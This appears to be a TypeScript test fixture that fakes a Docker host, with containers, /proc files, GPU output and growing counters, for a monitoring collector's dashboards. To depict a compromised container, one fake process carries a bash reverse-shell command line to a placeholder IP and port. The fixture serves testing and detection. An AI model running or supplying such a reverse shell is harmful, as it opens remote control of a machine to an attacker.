// A machine that has everything, a GPU and a threatened container included, with figures that move: what our collector reads for the dashboards.
import type { Machine } from '../../collector/source.ts';
import { systemClock } from '../../core/runtime/clock.ts';
import { gpuAppRows, gpuRows } from '../collector/dashboards.ts';
import { hostFiles, hostOptions } from '../collector/host.ts';
import { addContainer, createHost } from '../collector/sources/containers/host.ts';
import { fakeMachine } from '../fakes/machine.ts';

const labels = {
  odyssey_environment: 'default',
  odyssey_deployment: 'shop',
  odyssey_revision: 'r2',
  'com.docker.compose.project': 'shop',
  'com.docker.compose.service': 'web',
};

/** What it says moves from read to read. */
export function everything(): Machine {
  const host = createHost(2);
  const id = addContainer(host, 2, 'web', 77, { labels });
  addContainer(host, 2, 'odyssey-haproxy', 79);
  const inspected = host.docker[`/containers/${id}/json`] as { State: object; HostConfig: object };
  inspected.State = { ...inspected.State, Health: { Status: 'healthy' } };
  inspected.HostConfig = { Memory: 536_870_912, NanoCpus: 5e8 };
  const numbers = Array.from({ length: 40 }, (_, at) => at + 1).join(' ');
  const processFiles = (pid: number, name: string, line: string) => ({
    [`/proc/${pid}/stat`]: `${pid} (${name}) S ${numbers}\n`,
    [`/proc/${pid}/cmdline`]: `${line.replaceAll(' ', '\0')}\0`,
    [`/proc/${pid}/status`]: `Name:\t${name}\nState:\tS\nUid:\t0\t0\t0\t0\nVmSwap:\t 0 kB\nvoluntary_ctxt_switches:\t1\nnonvoluntary_ctxt_switches:\t1\n`,
    [`/proc/${pid}/io`]: 'read_bytes: 1\nwrite_bytes: 1\n',
    [`/proc/${pid}/limits`]:
      'Limit                     Soft Limit           Hard Limit           Units\nMax open files            1024                 4096                 files     \n',
    [`/proc/${pid}/fd/0`]: '',
  });
  const files: Record<string, string | Error> = {
    ...host.files,
    ...hostFiles,
    ...processFiles(77, 'server', 'server --listen 80'),
    ...processFiles(79, 'haproxy', 'haproxy -W -db'),
    ...processFiles(78, 'bash', 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
  };
  const machine = fakeMachine(files, {
    ...hostOptions,
    links: { ...host.links, ...hostOptions.links },
    docker: host.docker,
  });
  const run: Machine['run'] = async (file, args, limits) =>
    file === 'nvidia-smi' ? { exitCode: 0, stdout: smi(args), stderr: '' } : machine.run(file, args, limits);
  const { unixSeconds, monotonicSeconds } = systemClock;
  return { ...machine, run, unixSeconds, monotonicSeconds, ...moving(machine) };
}

function smi(args: readonly string[]): string {
  if (args[0]!.startsWith('--query-gpu')) return gpuRows;
  return args[0]!.startsWith('--query-compute') ? gpuAppRows.replaceAll(' 4001,', ' 77,') : 'CUDA Version : 12.4\n';
}

/** Counters that grow with time, and a memory that breathes; by path, each with what becomes of its text. */
const growth: readonly { path: RegExp; grow(text: string, by: number): string }[] = [
  {
    path: /^\/proc\/stat$/,
    grow: (text, by) =>
      text.replace(/^(cpu\d* +|ctxt |processes )(\d+)/gm, (_, name, count) => `${name}${Number(count) + by}`),
  },
  {
    path: /^\/proc\/net\/snmp$/,
    grow: (text, by) => text.replace('5 6 7 8 9', `5 ${6 + by} ${7 + Math.floor(by / 50)} 8 9`),
  },
  { path: /^\/proc\/diskstats$/, grow: (text, by) => text.replaceAll(' 33', ` ${33 + by}`) },
  { path: /^\/proc\/net\/dev$/, grow: (text, by) => text.replaceAll('22', String(22 + by * 100)) },
  { path: /\/memory\.current$/, grow: (text, by) => `${Number(text) + 1_000 * by}\n` },
  {
    path: /\/cpu\.stat$/,
    grow: (text, by) => text.replace(/usage_usec (\d+)/, (_, usec) => `usage_usec ${Number(usec) + by * 1_000}`),
  },
];

function moving(machine: Machine): Pick<Machine, 'readText' | 'readTextIfThere'> {
  const begun = systemClock.monotonicSeconds();
  const moved = (path: string, text: string): string => {
    const seconds = systemClock.monotonicSeconds() - begun;
    const by = Math.floor(seconds * 90 + 25 * Math.sin(seconds / 7));
    return growth.find((one) => one.path.test(path))?.grow(text, by) ?? text;
  };
  return {
    readText: (path) => moved(path, machine.readText(path)),
    readTextIfThere: (path) => {
      const text = machine.readTextIfThere(path);
      return text === undefined ? undefined : moved(path, text);
    },
  };
}
